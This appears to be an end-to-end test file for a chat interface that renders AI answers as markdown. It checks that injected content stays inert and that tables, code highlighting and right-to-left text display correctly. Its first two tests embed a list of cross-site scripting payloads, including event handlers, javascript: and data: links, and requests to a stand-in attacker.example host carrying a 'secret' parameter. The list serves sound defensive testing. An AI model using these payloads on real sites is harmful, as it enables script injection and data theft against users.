import { afterAll, beforeAll, expect, test } from 'vitest';
import { openChromium } from './open-chromium.ts';
import { said, seedThread } from './seed-thread.ts';
import { startStage } from './stage.ts';
import { ask, coloursOfCode, share } from './talk.ts';

let stage: Awaited<ReturnType<typeof startStage>>;
let browser: Awaited<ReturnType<typeof openChromium>>;

beforeAll(async () => {
  [stage, browser] = await Promise.all([startStage(), openChromium()]);
});

afterAll(async () => {
  await browser.close();
  await stage.close();
});

const ATTACKS = `
<script>window.attacked = 'script'</script>
<img src="https://attacker.example/pixel.png" onerror="window.attacked = 'onerror'">
<iframe src="https://attacker.example/frame"></iframe>
<svg onload="window.attacked = 'svg'"><use href="https://attacker.example/x.svg#y"/></svg>
<style>body { background: url(https://attacker.example/style) }</style>
<form action="https://attacker.example/form"><input name="q" autofocus onfocus="window.attacked = 'focus'"></form>
<a href="javascript:window.attacked='anchor'">one</a>

[two](javascript:window.attacked='link')
[three](JaVaScRiPt:window.attacked='case')
[four](&#106;avascript:window.attacked='entity')
[five](data:text/html,<script>window.attacked='data'</script>)
[six](vbscript:attacked)
[seven](https://attacker.example/?secret=1)
[eight](//attacker.example/relative)
[nine][ref]

![remote](https://attacker.example/image.png?secret=1)
![also][picture]
![inline](data:image/svg+xml,<svg onload="window.attacked='svg data'">)
<https://attacker.example/autolink>

[ref]: javascript:window.attacked='reference'
[picture]: https://attacker.example/by-reference.png

\`\`\`mermaid
graph TD; A["<img src=https://attacker.example/mermaid>"]-->B
\`\`\`

\`\`\`html
<img src="https://attacker.example/in-code.png">
\`\`\`

the end
`;

test("a model's text runs nothing and fetches nothing, and no link in it leads to a script", async () => {
  const threadId = await seedThread(stage.home, {
    title: 'Attack',
    turns: [{ asked: 'go', made: [{ body: said(ATTACKS) }] }],
  });
  await browser.enter(stage.url);
  const page = await browser.open();
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(request.url()));
  await page.goto(`${stage.url}/threads/${threadId}`);
  const answer = page.getByRole('article');
  await answer.getByText('the end').waitFor();
  await answer.locator('[data-streamdown="code-block"]').first().waitFor();
  await answer.getByRole('img', { name: 'Diagram' }).waitFor();

  const found = await answer.evaluate((element) => ({
    dangerous: element.querySelectorAll('script, iframe, style, form, object, embed, use, link, [srcdoc]').length,
    images: [...element.querySelectorAll('img')].map((image) => image.src.slice(0, 19)),
    handlers: [...element.querySelectorAll('*')].flatMap((child) =>
      child.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
    links: [...element.querySelectorAll('a')].map((link) => ({
      to: link.protocol,
      rel: link.rel,
      target: link.target,
    })),
    attacked: (globalThis as { attacked?: string }).attacked,
  }));
  expect(found).toMatchObject({ dangerous: 0, handlers: [], attacked: undefined });
  expect(found.images).toEqual(['data:image/svg+xml;']);
  expect(found.links.length).toBeGreaterThan(1);
  for (const link of found.links)
    expect(link).toMatchObject({ rel: expect.stringContaining('noreferrer'), target: '_blank' });
  expect(new Set(found.links.map(({ to }) => to))).toEqual(new Set(['https:']));
  expect(fetched.filter((address) => !address.startsWith(stage.url))).toEqual([]);
  expect(page.problems).toEqual([]);
  await page.close();
});

test('neither does it while it is still being written', async () => {
  const page = await browser.signIn(stage.url);
  const fetched: string[] = [];
  page.on('request', (request) => fetched.push(request.url()));
  await ask(
    page,
    'say look <img src=https://attacker.example/a.png> ![b](https://attacker.example/b.png) [c](javascript:alert(1)) done',
  );
  await page.getByRole('article').getByText('done').waitFor();
  expect(await page.getByRole('article').locator('img, script, a[href^="javascript"]').count()).toBe(0);
  expect(fetched.filter((address) => !/^(https?|wss?):\/\/127\.0\.0\.1/.test(address))).toEqual([]);
  await page.close();
});

test('a huge table and a long word scroll inside themselves, never the page', async () => {
  const row = (cell: string) => `| ${Array.from({ length: 40 }, () => cell).join(' | ')} |`;
  const table = [row('head'), row('---'), ...Array.from({ length: 300 }, (_, index) => row(`cell ${index}`))].join(
    '\n',
  );
  const threadId = await seedThread(stage.home, {
    title: 'Wide',
    turns: [
      {
        asked: 'w'.repeat(4000),
        made: [{ body: said(`${'long'.repeat(1000)}\n\n${table}\n\n\`\`\`\n${'x'.repeat(5000)}\n\`\`\``) }],
      },
    ],
  });
  const page = await browser.signIn(stage.url, { path: `/threads/${threadId}` });
  await page.getByRole('article').locator('table').waitFor();
  const widths = await page.evaluate(() => ({
    document: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    log: (() => {
      const log = document.querySelector('[role=log]');
      return log ? log.scrollWidth - log.clientWidth : -1;
    })(),
    column: document.querySelector('article')?.getBoundingClientRect().width,
  }));
  expect(widths).toMatchObject({ document: 0, log: 0 });
  expect(widths.column).toBeLessThanOrEqual(760);
  await page.close();
});

const CODE = said('```ts\nconst answer: number = 42; // why\n```');

test('highlighted code keeps its colours under the policy of the page, also on a slow machine', async () => {
  const threadId = await seedThread(stage.home, { title: 'Code', turns: [{ asked: 'code', made: [{ body: CODE }] }] });
  await browser.enter(stage.url);
  const page = await browser.open();
  const session = await browser.context.newCDPSession(page);
  await session.send('Emulation.setCPUThrottlingRate', { rate: 8 });
  await page.goto(`${stage.url}/threads/${threadId}`);
  await page.locator('[data-streamdown="code-block-body"]').getByText('42').waitFor();
  await expect.poll(() => coloursOfCode(page)).toBeGreaterThan(2);
  expect(page.problems).toEqual([]);
  await session.send('Emulation.setCPUThrottlingRate', { rate: 1 }); // other pages share the process
  await page.close();
});

test('so does code in a shared thread, whose page has no origin', async () => {
  const threadId = await seedThread(stage.home, {
    title: 'Shared',
    turns: [{ asked: 'code', made: [{ body: CODE }] }],
  });
  const page = await browser.signIn(stage.url, { path: `/threads/${threadId}` });
  const link = await share(page, 'Shared');
  const visitor = await browser.open();
  await visitor.goto(link);
  await expect.poll(() => coloursOfCode(visitor)).toBeGreaterThan(2);
  expect(visitor.problems).toEqual([]);
  await Promise.all([page.close(), visitor.close()]);
});

test('each part of an answer is written in the direction of its words, and code from left to right', async () => {
  const page = await browser.signIn(stage.url);
  const words = '`npm` مرحبا بالعالم\n\n- هذا\n- نص\n\nplain words\n\n| مرحبا |\n| --- |\n| نص |\n';
  const thread = await seedThread(stage.home, {
    title: 'Directions',
    turns: [{ asked: 'go', made: [{ body: said(words) }] }],
  });
  await page.goto(`${stage.url}/threads/${thread}`);
  const prose = page.locator('article .prose');
  await prose.getByText('plain words').waitFor();
  const directions = () =>
    prose
      .locator('p:not(:has(button)), ul, li, code, td')
      .evaluateAll((all) => all.map((each) => `${each.tagName} ${getComputedStyle(each).direction}`));
  await expect.poll(directions).toEqual(['P rtl', 'CODE ltr', 'UL rtl', 'LI rtl', 'LI rtl', 'P ltr', 'TD rtl']);
  await page.close();
});
